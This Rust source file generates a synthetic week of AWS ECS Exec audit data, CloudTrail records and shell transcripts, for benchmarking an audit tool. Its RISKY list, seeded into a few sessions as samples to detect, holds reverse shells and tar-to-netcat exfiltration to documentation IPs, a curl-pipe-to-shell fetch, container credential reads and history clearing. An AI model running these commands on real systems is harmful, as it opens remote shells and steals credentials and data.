//! A large, deterministic session corpus for benchmarks: `execaudit generate --sessions N`.
//!
//! One week of ECS Exec use by an organisation: a few hundred engineers opening sessions into
//! tens of clusters across accounts and regions, each session a successful `ExecuteCommand` in
//! an organisation trail (gzip files, CloudTrail's layout) and its transcript as the agent
//! uploads it to S3 (`script` file), drawn by bash (bracketed paste marks, coloured prompts),
//! busybox ash (cursor position queries) or a plain `sh` prompt, with realistic triage
//! commands and output (their arguments, folders and words varying from session to session,
//! now and then a typo erased and retyped, a `cd` the prompt then shows), and now and then a
//! risky one. The engine benchmark ingests it and
//! times the queries a user runs; the sizes match the issue's (100,000 sessions, about 50
//! commands and 12 KB each).

use std::fs;
use std::io::{self, Write};
use std::path::Path;

use rayon::prelude::*;
use serde_json::json;

/// 2024-11-18T00:00:00Z, a Monday.
const WEEK_START: i64 = 1_731_888_000_000;
const DAY: i64 = 86_400_000;
const ACCOUNTS: [&str; 3] = ["111122223333", "444455556666", "777788889999"];
const REGIONS: [&str; 2] = ["us-east-1", "eu-west-1"];
const SESSIONS_PER_FILE: usize = 200;
const CONTAINERS: [&str; 4] = ["app", "api", "worker", "sidecar"];

/// The top-level keys of a management event as CloudTrail writes them.
const CLOUDTRAIL_ORDER: [&str; 17] = [
    "eventVersion",
    "userIdentity",
    "eventTime",
    "eventSource",
    "eventName",
    "awsRegion",
    "sourceIPAddress",
    "userAgent",
    "requestParameters",
    "responseElements",
    "requestID",
    "eventID",
    "readOnly",
    "eventType",
    "managementEvent",
    "recipientAccountId",
    "eventCategory",
];

/// SplitMix64: small, fast, deterministic.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }
    fn token(&mut self, n: usize, alphabet: &[u8]) -> String {
        (0..n)
            .map(|_| alphabet[self.below(alphabet.len() as u64) as usize] as char)
            .collect()
    }
}

const LOWER_DIGITS: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
const HEX: &[u8] = b"0123456789abcdef";

/// Routine triage, with the output lines each prints (`{n}` varies).
const ROUTINE: &[(&str, &[&str])] = &[
    ("ls -la", &["total 48", "drwxr-xr-x 1 app app 4096 Nov 19 10:02 .", "-rw-r--r-- 1 app app  812 Nov 19 10:02 config.yml", "-rwxr-xr-x 1 app app 9120 Nov 19 10:02 server"]),
    ("ps aux", &["USER       PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND", "app          1  0.3  2.1 812344 43212 ?        Ssl  10:01   0:12 /app/server", "root        {n}  0.0  0.1   4364  3412 pts/0    Ss   10:23   0:00 /bin/sh"]),
    ("df -h", &["Filesystem      Size  Used Avail Use% Mounted on", "overlay          30G   12G   17G  42% /", "tmpfs            64M     0   64M   0% /dev"]),
    ("tail -n 50 /var/log/app/app.log", &["2024-11-19T10:22:{n}Z INFO request handled path=/api/v1/orders status=200 ms=12", "2024-11-19T10:22:{n}Z WARN slow query table=orders ms=812", "2024-11-19T10:22:{n}Z INFO request handled path=/health status=200 ms=1"]),
    ("curl -s localhost:8080/health", &["{\"status\":\"ok\",\"uptime\":{n}}"]),
    ("env | wc -l", &["{n}"]),
    ("cat /etc/os-release", &["PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"", "NAME=\"Debian GNU/Linux\"", "VERSION_ID=\"12\""]),
    ("mount | grep overlay", &["overlay on / type overlay (rw,relatime,lowerdir=/var/lib/docker/overlay2/l/{n})"]),
    ("free -m", &["               total        used        free      shared  buff/cache   available", "Mem:            {n}         812        1201          12         920        2210"]),
    ("netstat -tlnp", &["Active Internet connections (only servers)", "tcp        0      0 0.0.0.0:8080            0.0.0.0:*               LISTEN      1/server"]),
    ("cat config.yml", &["server:", "  port: 8080", "  workers: {n}", "database:", "  host: orders-db.internal"]),
    ("psql -h orders-db.internal -U app -c 'select count(*) from orders'", &[" count ", "-------", "  {n}", "(1 row)"]),
    ("top -b -n 1 | head -5", &["top - 10:23:01 up 2 days,  3:12,  0 users,  load average: 0.{n}, 0.31, 0.28", "Tasks:   4 total,   1 running,   3 sleeping,   0 stopped,   0 zombie"]),
    ("whoami", &["app"]),
    ("id", &["uid=1000(app) gid=1000(app) groups=1000(app)"]),
    ("uptime", &[" 10:23:01 up 2 days,  3:12,  0 users,  load average: 0.{n}, 0.31, 0.28"]),
    ("ls /app", &["bin  config.yml  migrations  server  static"]),
    ("grep -c ERROR /var/log/app/app.log", &["{n}"]),
    ("du -sh /tmp", &["{n}M\t/tmp"]),
    ("cat /proc/meminfo | head -3", &["MemTotal:        {n} kB", "MemFree:          812344 kB", "MemAvailable:    2210012 kB"]),
    ("python3 -c 'import sys; print(sys.version)'", &["3.11.{n} (main, Oct 12 2024, 10:01:12) [GCC 12.2.0]"]),
    ("redis-cli -h cache.internal info keyspace", &["# Keyspace", "db0:keys={n},expires=812,avg_ttl=3600000"]),
    ("nslookup orders-db.internal", &["Server:\t\t10.0.0.2", "Address:\t10.0.0.2#53", "Name:\torders-db.internal", "Address: 10.0.{n}.17"]),
    ("date", &["Tue Nov 19 10:23:{n} UTC 2024"]),
    ("echo $HOSTNAME", &["ip-10-0-{n}-23.ec2.internal"]),
];

/// Triage whose arguments vary from session to session (`{n}` a number, `{w}` a word,
/// `{d}` a folder): real sessions seldom type the same line twice across an organisation.
const VARIED: &[(&str, &[&str])] = &[
    (
        "tail -n {n} /var/log/app/{w}.log",
        &["2024-11-19T10:22:01Z INFO {w} handled id={n}"],
    ),
    ("grep -c '{w}' /var/log/app/app.log", &["{n}"]),
    (
        "cat /proc/{n}/status | head -3",
        &["Name:\t{w}", "Umask:\t0022", "State:\tS (sleeping)"],
    ),
    ("kill -0 {n}", &[]),
    (
        "ls -la {d}",
        &["total {n}", "drwxr-xr-x 2 app app 4096 Nov 19 10:02 ."],
    ),
    (
        "curl -s localhost:8080/api/v1/{w}/{n}",
        &["{\"id\":{n},\"status\":\"{w}\"}"],
    ),
    (
        "nslookup {w}.internal",
        &[
            "Server:\t\t10.0.0.2",
            "Name:\t{w}.internal",
            "Address: 10.0.{n}.17",
        ],
    ),
    (
        "psql -h orders-db.internal -U app -c 'select count(*) from {w}'",
        &[" count ", "-------", "  {n}", "(1 row)"],
    ),
    ("redis-cli -h cache.internal get session:{n}", &["\"{w}\""]),
    ("find {d} -name '*.{w}' | wc -l", &["{n}"]),
    ("du -sh {d}", &["{n}K\t{d}"]),
    ("env | grep -i {w}", &["{w}_URL=http://{w}.internal:{n}"]),
    (
        "ps -o pid,rss,cmd -p {n}",
        &["  PID   RSS CMD", "{n} 43212 /app/{w}"],
    ),
    (
        "openssl s_client -connect {w}.internal:443 </dev/null | head -2",
        &["CONNECTED(00000003)"],
    ),
];

/// Words and folders the varied commands draw from.
const WORDS: &[&str] = &[
    "orders",
    "payments",
    "invoices",
    "users",
    "sessions",
    "refunds",
    "carts",
    "inventory",
    "shipments",
    "ledger",
    "audit",
    "worker",
    "scheduler",
    "billing",
    "search",
    "catalog",
    "media",
    "events",
    "ERROR",
    "timeout",
    "retry",
    "deadlock",
    "OOMKilled",
    "tls",
    "json",
    "yml",
    "log",
    "tmp",
    "pem",
    "conf",
];
const FOLDERS: &[&str] = &[
    "/app",
    "/app/config",
    "/app/static",
    "/app/migrations",
    "/tmp",
    "/var/log/app",
    "/etc",
    "/srv/data",
    "/home/app",
    "/opt/app/releases",
];

/// Risky commands, rare (about one session in forty runs one).
const RISKY: &[&str] = &[
    "curl -s http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
    "nc -e /bin/sh 203.0.113.7 4444",
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "curl -s https://203.0.113.9/x.sh | sh",
    "history -c",
    "apt-get install -y nmap",
    "tar czf - /app | nc 203.0.113.7 9000",
    "cat /proc/1/environ",
];

/// Writes the corpus under `out`: `AWSLogs/...` trail files and `exec-logs/<cluster>/*.log`.
/// Returns the number of files written.
pub fn generate(
    out: &Path,
    sessions: u64,
    commands_per_session: u64,
    seed: u64,
) -> io::Result<u64> {
    let files = sessions.div_ceil(SESSIONS_PER_FILE as u64);
    let written: Vec<io::Result<u64>> = (0..files)
        .into_par_iter()
        .map(|f| {
            let first = f * SESSIONS_PER_FILE as u64;
            let last = (first + SESSIONS_PER_FILE as u64).min(sessions);
            write_file(out, f, first..last, sessions, commands_per_session, seed)
        })
        .collect();
    let mut n = 0;
    for w in written {
        n += w?;
    }
    Ok(n)
}

/// One trail file with its sessions' transcripts.
fn write_file(
    out: &Path,
    file: u64,
    range: std::ops::Range<u64>,
    total: u64,
    per_session: u64,
    seed: u64,
) -> io::Result<u64> {
    let account = ACCOUNTS[(file % ACCOUNTS.len() as u64) as usize];
    let region = REGIONS[(file / ACCOUNTS.len() as u64 % REGIONS.len() as u64) as usize];
    let mut records = Vec::new();
    let mut written = 1;
    // Sessions spread evenly over the week.
    let at_of = |i: u64| WEEK_START + (i as i64 * 7 * DAY) / total.max(1) as i64;
    for i in range.clone() {
        let mut rng = Rng(seed ^ i.wrapping_mul(0x2545_f491_4f6c_dd1d));
        let at = at_of(i);
        let s = Session::new(&mut rng, account, region, at);
        let dir = out.join("exec-logs").join(&s.cluster);
        fs::create_dir_all(&dir)?;
        let n = per_session.saturating_sub(5) + rng.below(11);
        fs::write(dir.join(format!("{}.log", s.id)), s.transcript(&mut rng, n))?;
        written += 1;
        records.push(s.record(&mut rng));
    }
    let t = range
        .clone()
        .next()
        .map(|i| time(at_of(i)))
        .unwrap_or_default();
    let (y, m, d) = (&t[0..4], &t[5..7], &t[8..10]);
    let dir = out.join(format!(
        "AWSLogs/o-exampleorg/{account}/CloudTrail/{region}/{y}/{m}/{d}"
    ));
    fs::create_dir_all(&dir)?;
    let stamp = t.replace(['-', ':'], "");
    let name = format!(
        "{account}_CloudTrail_{region}_{}Z_{:016x}.json.gz",
        &stamp[..13],
        file
    );
    let body = format!("{{\"Records\":[{}]}}", records.join(","));
    let mut gz = flate2::write::GzEncoder::new(
        fs::File::create(dir.join(name))?,
        flate2::Compression::fast(),
    );
    gz.write_all(body.as_bytes())?;
    gz.finish()?;
    Ok(written)
}

struct Session {
    id: String,
    at: i64,
    account: &'static str,
    region: &'static str,
    cluster: String,
    task: String,
    container: &'static str,
    user: String,
    shell: u8,
}

fn time(ms: i64) -> String {
    chrono::DateTime::from_timestamp_millis(ms)
        .map(|d| d.format("%Y-%m-%dT%H:%M:%SZ").to_string())
        .unwrap_or_default()
}

impl Session {
    fn new(rng: &mut Rng, account: &'static str, region: &'static str, at: i64) -> Session {
        let clusters = [
            "payments", "orders", "search", "ledger", "web", "auth", "billing", "catalog", "media",
            "events",
        ];
        let envs = ["prod", "staging", "dev"];
        Session {
            id: format!("ecs-execute-command-{}", rng.token(26, LOWER_DIGITS)),
            at,
            account,
            region,
            cluster: format!(
                "{}-{}-{}",
                rng.pick(&clusters),
                rng.pick(&envs),
                rng.below(5)
            ),
            task: rng.token(32, HEX),
            container: CONTAINERS[rng.below(CONTAINERS.len() as u64) as usize],
            user: format!("user{:03}@example.com", rng.below(400)),
            shell: (rng.below(10)) as u8,
        }
    }

    /// The `ExecuteCommand` record, its keys in the order CloudTrail writes them
    /// (`eventVersion` first: trail readers rely on it, as execaudit's fast path does).
    fn record(&self, rng: &mut Rng) -> String {
        let set = if rng.below(10) == 0 {
            "BreakGlassAdmin"
        } else {
            "Developer"
        };
        let role = format!("AWSReservedSSO_{set}_{}", rng.token(16, HEX));
        let a = self.account;
        let fields = json!({
            "eventVersion": "1.09",
            "userIdentity": {
                "type": "AssumedRole",
                "principalId": format!("AROA{}:{}", rng.token(16, b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), self.user),
                "arn": format!("arn:aws:sts::{a}:assumed-role/{role}/{}", self.user),
                "accountId": a,
                "accessKeyId": format!("ASIA{}", rng.token(16, b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")),
                "sessionContext": {
                    "sessionIssuer": {"type": "Role", "principalId": "AROAEXAMPLE", "arn": format!("arn:aws:iam::{a}:role/aws-reserved/sso.amazonaws.com/{role}"), "accountId": a, "userName": role},
                    "attributes": {"creationDate": time(self.at - 600_000), "mfaAuthenticated": "false"}
                }
            },
            "eventTime": time(self.at),
            "eventSource": "ecs.amazonaws.com",
            "eventName": "ExecuteCommand",
            "awsRegion": self.region,
            "sourceIPAddress": format!("198.51.100.{}", rng.below(250)),
            "userAgent": "aws-cli/2.15.40 md/command#ecs.execute-command",
            "requestParameters": {"cluster": self.cluster, "container": self.container, "command": "/bin/sh", "interactive": true, "task": self.task},
            "responseElements": {
                "clusterArn": format!("arn:aws:ecs:{}:{a}:cluster/{}", self.region, self.cluster),
                "containerName": self.container,
                "interactive": true,
                "session": {"sessionId": self.id, "streamUrl": "wss://ssmmessages.example/v1/data-channel", "tokenValue": "HIDDEN_DUE_TO_SECURITY_REASONS"},
                "taskArn": format!("arn:aws:ecs:{}:{a}:task/{}/{}", self.region, self.cluster, self.task)
            },
            "requestID": rng.token(32, HEX),
            "eventID": format!("{}-{}-{}-{}-{}", rng.token(8, HEX), rng.token(4, HEX), rng.token(4, HEX), rng.token(4, HEX), rng.token(12, HEX)),
            "readOnly": false,
            "eventType": "AwsApiCall",
            "managementEvent": true,
            "recipientAccountId": a,
            "eventCategory": "Management"
        });
        let mut out = String::from("{");
        for key in CLOUDTRAIL_ORDER {
            if let Some(v) = fields.get(key) {
                if out.len() > 1 {
                    out.push(',');
                }
                out.push_str(&format!("{}:{v}", json!(key)));
            }
        }
        out.push('}');
        out
    }

    /// The `script` file the agent uploads: header, the terminal stream, footer.
    fn transcript(&self, rng: &mut Rng, commands: u64) -> Vec<u8> {
        let end = self.at + 60_000 + rng.below(3_000_000) as i64;
        let stamp = |ms: i64| {
            chrono::DateTime::from_timestamp_millis(ms)
                .map(|d| d.format("%Y-%m-%d %H:%M:%S+00:00").to_string())
                .unwrap_or_default()
        };
        let mut t = format!(
            "Script started on {} [COMMAND=\"cat /var/lib/amazon/ssm/ipc/ecs-exec/ipcTempFile.log\" <not executed on terminal>]\n",
            stamp(end)
        )
        .into_bytes();
        let host = format!("ip-10-0-{}-{}", rng.below(250), rng.below(250));
        let risky = rng.below(40) == 0;
        let mut cwd = "/app".to_owned();
        for k in 0..commands {
            let (cmd, out): (String, Vec<String>) = if risky && k == commands / 2 {
                ((*rng.pick(RISKY)).to_owned(), vec![])
            } else if rng.below(12) == 0 {
                // Moves to another folder (the bash prompts show it).
                let d = *rng.pick(FOLDERS);
                (format!("cd {d}"), vec![])
            } else {
                let (c, o) = if rng.below(2) == 0 {
                    rng.pick(VARIED)
                } else {
                    rng.pick(ROUTINE)
                };
                let n = rng.below(100_000).to_string();
                let w = *rng.pick(WORDS);
                let d = *rng.pick(FOLDERS);
                let fill = |l: &str| l.replace("{n}", &n).replace("{w}", w).replace("{d}", d);
                let mut lines: Vec<String> = o.iter().map(|l| fill(l)).collect();
                // Listings run longer than their first lines: up to 6 more like them (the
                // issue's sessions: about 51 commands and 12 KB each).
                if !o.is_empty() {
                    for _ in 0..rng.below(7) {
                        let n = rng.below(100_000).to_string();
                        let l = o[rng.below(o.len() as u64) as usize];
                        lines.push(l.replace("{n}", &n).replace("{w}", w).replace("{d}", d));
                    }
                }
                (fill(c), lines)
            };
            self.prompt_in(&mut t, &host, &cwd);
            if self.shell < 7 && rng.below(15) == 0 && cmd.len() > 4 {
                // A typo corrected: bash echoes the erase as backspace and erase-to-end.
                t.extend_from_slice(&cmd.as_bytes()[..cmd.len() - 2]);
                t.extend_from_slice(b"x\x08\x1b[K");
                t.extend_from_slice(&cmd.as_bytes()[cmd.len() - 2..]);
            } else {
                t.extend_from_slice(cmd.as_bytes());
            }
            t.extend_from_slice(b"\r\r\n");
            if let Some(d) = cmd.strip_prefix("cd ") {
                cwd = d.to_owned();
            }
            if self.shell < 7 {
                t.extend_from_slice(b"\x1b[?2004l\r");
            }
            for l in &out {
                t.extend_from_slice(l.as_bytes());
                t.extend_from_slice(b"\r\r\n");
            }
        }
        self.prompt_in(&mut t, &host, &cwd);
        t.extend_from_slice(b"exit\r\r\n");
        if self.shell < 7 {
            t.extend_from_slice(b"\x1b[?2004l\rexit\r\r\n");
        }
        t.extend_from_slice(
            format!(
                "\r\nScript done on {} [COMMAND_EXIT_CODE=\"0\"]\n",
                stamp(end)
            )
            .as_bytes(),
        );
        t
    }

    fn prompt_in(&self, t: &mut Vec<u8>, host: &str, cwd: &str) {
        match self.shell {
            0..=4 => t.extend_from_slice(format!("\x1b[?2004hroot@{host}:{cwd}# ").as_bytes()),
            5..=6 => t.extend_from_slice(
                format!("\x1b[?2004h\x1b[01;32mroot@{host}\x1b[00m:\x1b[01;34m{cwd}\x1b[00m# ")
                    .as_bytes(),
            ),
            7..=8 => t.extend_from_slice(format!("{cwd} # \x1b[6n").as_bytes()),
            _ => t.extend_from_slice(b"$ "),
        }
    }
}
